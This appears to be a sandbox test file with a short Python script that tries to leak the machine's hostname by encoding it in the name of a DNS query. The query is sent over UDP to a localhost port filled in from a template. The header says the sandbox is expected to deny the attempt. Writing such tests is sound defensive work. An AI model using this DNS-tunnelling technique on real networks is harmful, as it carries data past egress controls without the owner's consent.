# SPDX-License-Identifier: Apache-2.0
# tries: carry a secret out in the name of a DNS question (S100, P51)
# proof: connected
# expect: socket net deny EPERM
# wall2: no: Landlock does not know UDP
#
# The oldest way out of a network without a way out: some resolver passes the question on.
import os
import socket
import struct

labels = os.uname().nodename.encode()[:60].hex()[:60], 'example', 'net'
question = b''.join(bytes([len(label)]) + label.encode() for label in labels) + b'\0'
query = struct.pack('!6H', 0x4242, 0x0100, 1, 0, 0, 0) + question + struct.pack('!2H', 16, 1)
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect(('127.0.0.1', int('@UDP@')))
        s.send(query)
except OSError:
    pass
